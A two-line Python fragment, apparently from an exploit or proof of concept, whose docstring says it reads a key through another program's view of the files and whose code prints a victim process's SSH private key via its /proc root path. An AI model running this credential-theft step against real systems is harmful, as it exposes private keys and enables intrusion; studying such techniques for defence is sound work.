"""Reads a key through another program's view of the files."""

print(Path(f"/proc/{at.victim}/root{at.home}/.ssh/id_rsa").read_text())
